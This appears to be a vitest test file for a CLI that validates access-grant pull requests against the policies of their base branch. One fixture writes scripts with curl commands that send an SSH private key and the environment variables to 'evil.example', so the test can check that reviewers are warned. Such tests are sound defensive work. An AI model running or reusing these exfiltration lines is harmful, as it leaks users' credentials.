import { afterEach, describe, expect, it } from 'vitest';
import { GitRepo } from '../../src/adapters/git/repo.js';
import { WorkTree } from '../../src/adapters/work-tree.js';
import { SchemaRegistry } from '../../src/policy/schema-registry.js';
import { validationView } from '../../src/render/plan-view.js';
import { renderTemplate } from '../../src/render/render.js';
import { validateAccessRepo } from '../../src/usecases/validate-repo.js';
import { aGrant, NOW, POLICIES } from '../support/builders.js';
import { cli } from '../support/cli.js';
import { tempRepo, type TempRepo } from '../support/repo.js';

/** Real repositories: a PR branch is judged by the policies at the tip of its base. */
let repo: TempRepo;
afterEach(() => repo.cleanup());

function repoWithMain(): TempRepo {
  repo = tempRepo({ ...POLICIES, 'grants/existing.yaml': aGrant().for('erin').yaml() }, { git: true });
  repo.git('checkout', '-q', '-b', 'pr');
  return repo;
}

interface ValidateJson {
  ok: boolean;
  grants: number;
  errors: { file: string; line: number; column: number; message: string }[];
  ruleChanges: { path: string; status: string }[];
  codeChanges: { path: string; status: string; targets: string[] }[];
  removed: { path: string }[];
  plan: { id: string; change: string; duration: string; approvalsText: string }[];
}
const json = async (...args: string[]) => {
  const r = await cli(repo.dir, 'validate', '--now', NOW, '--json', ...args);
  return { code: r.code, doc: JSON.parse(r.stdout) as ValidateJson, stderr: r.stderr };
};

describe('validate --base', () => {
  it('judges a PR that loosens a policy by the policy of its base', async () => {
    repoWithMain();
    repo.write({
      'policies/prod-db.yaml': POLICIES['policies/prod-db.yaml'].replace(
        'maxDuration: 8h',
        'maxDuration: 72h',
      ),
      'grants/bob-long.yaml': aGrant().for('bob').expiresAt('2026-11-30T12:00:00Z').yaml(),
    });
    repo.commit('loosen and use it');

    const head = await json();
    expect(head.code).toBe(0); // judged by its own (loosened) policy, the grant would pass

    const { code, doc } = await json('--base', 'main');
    expect(code).toBe(1);
    expect(doc.grants).toBe(1);
    expect(doc.errors).toEqual([
      {
        file: 'grants/bob-long.yaml',
        line: 6,
        column: 12,
        message: 'grant lasts 2d, over the 8h maximum of role "readonly" on "prod-db"',
        rule: 'max-duration',
      },
    ]);
    expect(doc.ruleChanges).toEqual([{ path: 'policies/prod-db.yaml', status: 'modified' }]);
  });

  it('reads the base with git, ignoring uncommitted policy edits in the work tree', async () => {
    repoWithMain();
    repo.write({
      'policies/prod-db.yaml': POLICIES['policies/prod-db.yaml'].replace(
        'readonly:',
        'superuser: { maxDuration: 8h, approvals: 0, dbRoles: [postgres] }\n  readonly:',
      ),
      'grants/root.yaml': aGrant().on('prod-db', 'superuser').yaml(),
    });
    const { code, doc } = await json('--base', 'main');
    expect(code).toBe(1);
    expect(doc.errors.map((e) => e.message)).toEqual([
      'target "prod-db" has no role "superuser" (it offers: readonly, readwrite)',
    ]);
  });

  it('checks only grants changed since the merge base, and lists removed ones', async () => {
    repoWithMain();
    repo.write({ 'grants/new.yaml': aGrant().for('frank').yaml() });
    repo.git('rm', '-q', 'grants/existing.yaml');
    repo.commit('add frank, drop erin');
    // main moves on with a grant that would fail: it is not this PR's to answer for.
    repo.git('checkout', '-q', 'main');
    repo.write({ 'grants/later.yaml': aGrant().for('gina').expiresAt('2030-01-01T00:00:00Z').yaml() });
    repo.commit('later on main');
    repo.git('checkout', '-q', 'pr');

    const { code, doc } = await json('--base', 'main');
    expect(code).toBe(0);
    expect(doc.grants).toBe(1);
    expect(doc.plan.map((p) => [p.id, p.change, p.duration, p.approvalsText])).toEqual([
      ['new', 'added', '6h', '1 from @acme/dba, bob'],
    ]);
    expect(doc.removed).toEqual([{ path: 'grants/existing.yaml', status: 'deleted' }]);
  });

  it('makes an expiresAt in the past an error for a changed grant', async () => {
    repoWithMain();
    repo.write({ 'grants/old.yaml': aGrant().expiresAt('2026-11-28T11:00:00Z').yaml() });
    repo.commit('stale');
    const { code, doc } = await json('--base', 'main');
    expect(code).toBe(1);
    expect(doc.errors.map((e) => e.message)).toEqual([
      '"expiresAt" (2026-11-28T11:00:00Z) is already in the past',
    ]);
  });

  it('validates the policies a PR proposes and exits 2 when they are broken', async () => {
    repoWithMain();
    repo.write({
      'policies/prod-db.yaml': POLICIES['policies/prod-db.yaml'].replace(
        'maxDuration: 8h',
        'maxDuration: 8 hours',
      ),
    });
    repo.commit('typo');
    const { code, doc } = await json('--base', 'main');
    expect(code).toBe(2);
    expect(doc.errors.map((e) => `${e.file}:${e.line}:${e.column}: ${e.message}`)).toEqual([
      'policies/prod-db.yaml:6:28: "roles.readonly.maxDuration" must be a duration such as 90m, 8h, 2d or 1d12h (proposed policy)',
    ]);
  });

  it('calls out a PR that changes the schemas', async () => {
    repoWithMain();
    repo.write({ 'schemas/grant.schema.json': '{}' });
    repo.commit('schema');
    const r = await cli(repo.dir, 'validate', '--now', NOW, '--base', 'main');
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(
      'note: this change touches schemas/grant.schema.json (added); it is judged by the rules at main',
    );
  });

  describe('grant ids that differ from a grant of the base only in letter case', () => {
    const vpn = (user: string) => aGrant().for(user).on('vpn', 'ops').yaml();
    const errorsOf = (doc: ValidateJson) =>
      doc.errors.map((e) => `${e.file}:${e.line}:${e.column}: ${e.message}`);

    it('refuses a PR that adds grants/vpn/BOB.yaml next to the live grants/vpn/bob.yaml', async () => {
      repoWithMain();
      repo.git('checkout', '-q', 'main');
      repo.write({ 'grants/vpn/bob.yaml': vpn('bob') });
      repo.commit('bob on the vpn');
      repo.git('checkout', '-q', '-b', 'pr-case');
      repo.write({ 'grants/vpn/BOB.yaml': vpn('mallory') });
      repo.commit('knock out the live grant');

      const { code, doc } = await json('--base', 'main');
      expect(code).toBe(1);
      expect(errorsOf(doc)).toEqual([
        'grants/vpn/BOB.yaml:1:1: grant id "vpn/BOB" clashes with grants/vpn/bob.yaml at main (ids must differ in more than letter case)',
      ]);
      expect(doc.plan).toEqual([]);
    });

    it('refuses it also when the live grant landed on the base after the PR branched off', async () => {
      repoWithMain();
      repo.write({ 'grants/Existing.yaml': vpn('mallory'), 'grants/vpn/ALICE.yaml': vpn('mallory') });
      repo.commit('two lookalikes');
      repo.git('checkout', '-q', 'main');
      repo.write({ 'grants/vpn/alice.yaml': vpn('alice') });
      repo.commit('alice on the vpn, after the PR branched');
      repo.git('checkout', '-q', 'pr');

      const { code, doc } = await json('--base', 'main');
      expect(code).toBe(1);
      expect(errorsOf(doc)).toEqual([
        'grants/Existing.yaml:1:1: grant id "Existing" clashes with grants/existing.yaml at main (ids must differ in more than letter case)',
        'grants/vpn/ALICE.yaml:1:1: grant id "vpn/ALICE" clashes with grants/vpn/alice.yaml at main (ids must differ in more than letter case)',
      ]);
    });

    it('accepts a modification of the same file, and a rename that only changes letter case', async () => {
      repoWithMain();
      repo.write({ 'grants/existing.yaml': aGrant().for('erin').with('reason', 'longer').yaml() });
      repo.commit('modify');
      expect((await json('--base', 'main')).code).toBe(0);

      repo.git('mv', 'grants/existing.yaml', 'grants/Existing.yaml');
      repo.commit('rename');
      const { code, doc } = await json('--base', 'main');
      expect(code).toBe(0);
      expect(doc.removed).toEqual([{ path: 'grants/existing.yaml', status: 'deleted' }]);
    });
  });

  describe('code that exec targets run', () => {
    const HELPER_POLICY = `target: { name: db-vpn, type: exec, command: [./bin/vpn-helper, "tools/../lib/db.sh", --verbose, ./share/] }
roles:
  ops: { maxDuration: 4h, approvals: 1, approvers: [bob] }
`;
    function repoWithScripts(): TempRepo {
      repo = tempRepo(
        {
          ...POLICIES,
          'policies/db-vpn.yaml': HELPER_POLICY,
          'scripts/vpn.sh': '#!/bin/sh\nexit 0\n',
          'scripts/lib/common.sh': 'true\n',
          'bin/vpn-helper': '#!/bin/sh\nexit 0\n',
          'lib/db.sh': 'true\n',
          'lib/other.sh': 'true\n',
          'share/ca.pem': 'cert\n',
        },
        { git: true },
      );
      repo.git('checkout', '-q', '-b', 'pr');
      return repo;
    }

    it('calls out changes under scripts/ and to any file an exec command names, like a policy change', async () => {
      repoWithScripts();
      repo.write({
        'scripts/vpn.sh': '#!/bin/sh\ncurl -d @$HOME/.ssh/id_rsa https://evil.example\n',
        'scripts/lib/common.sh': 'false\n',
        'bin/vpn-helper': '#!/bin/sh\nenv | curl -d @- https://evil.example\n',
        'lib/db.sh': 'false\n',
        'lib/other.sh': 'false\n',
        'share/ca.pem': 'evil cert\n',
        'grants/frank.yaml': aGrant().for('frank').yaml(),
      });
      repo.commit('grant, and change what the targets run');

      const { code, doc } = await json('--base', 'main');
      expect(code).toBe(0);
      expect(doc.codeChanges).toEqual([
        { path: 'bin/vpn-helper', status: 'modified', targets: ['db-vpn'] },
        { path: 'lib/db.sh', status: 'modified', targets: ['db-vpn'] },
        { path: 'scripts/lib/common.sh', status: 'modified', targets: [] },
        { path: 'scripts/vpn.sh', status: 'modified', targets: ['vpn'] },
        { path: 'share/ca.pem', status: 'modified', targets: ['db-vpn'] },
      ]);
      expect(doc.ruleChanges.map((c) => c.path)).toEqual([
        'bin/vpn-helper',
        'lib/db.sh',
        'scripts/lib/common.sh',
        'scripts/vpn.sh',
        'share/ca.pem',
      ]);
      const { stderr } = await cli(repo.dir, 'validate', '--now', NOW, '--base', 'main');
      expect(stderr).toContain(
        'note: this change touches scripts/vpn.sh (modified), code an exec target runs (vpn) with its credentials once merged; reviewers must read it',
      );
      expect(stderr).toContain(
        'note: this change touches bin/vpn-helper (modified), code an exec target runs (db-vpn)',
      );

      // The plan comment tells reviewers, above the plan.
      const git = await GitRepo.open(repo.dir);
      const report = await validateAccessRepo(
        { now: new Date(NOW), base: 'main' },
        { work: new WorkTree(git.root), registry: new SchemaRegistry(), history: git },
      );
      const comment = await renderTemplate('pr-comment.md', validationView(report, new Date(NOW)));
      expect(comment).toContain('> [!CAUTION]');
      expect(comment).toContain('reviewers must read these changes before approving.');
      expect(comment).toContain('> - scripts/vpn.sh (modified), run by target vpn');
      expect(comment).toContain('> - bin/vpn-helper (modified), run by target db-vpn');
      expect(comment.indexOf('[!CAUTION]')).toBeLessThan(comment.indexOf('| added | frank'));
    });

    it('calls out the file a proposed policy points its exec command at', async () => {
      repoWithScripts();
      repo.write({
        'policies/db-vpn.yaml': HELPER_POLICY.replace('./bin/vpn-helper', './tools/new-helper'),
        'tools/new-helper': '#!/bin/sh\nexit 0\n',
      });
      repo.commit('point the target at a new program');
      const { doc } = await json('--base', 'main');
      const { stderr } = await cli(repo.dir, 'validate', '--now', NOW, '--base', 'main');
      expect(doc.codeChanges).toEqual([{ path: 'tools/new-helper', status: 'added', targets: ['db-vpn'] }]);
      expect(doc.ruleChanges.map((c) => c.path)).toEqual(['policies/db-vpn.yaml', 'tools/new-helper']);
      expect(stderr).toContain(
        'note: this change touches tools/new-helper (added), code an exec target runs',
      );
    });
  });

  it('exits 2 for a ref that does not exist or a directory that is not a repository', async () => {
    repoWithMain();
    expect((await cli(repo.dir, 'validate', '--base', 'nope')).code).toBe(2);
    const plain = tempRepo(POLICIES);
    try {
      const r = await cli(plain.dir, 'validate', '--base', 'main');
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('is not inside a git repository');
    } finally {
      plain.cleanup();
    }
  });
});
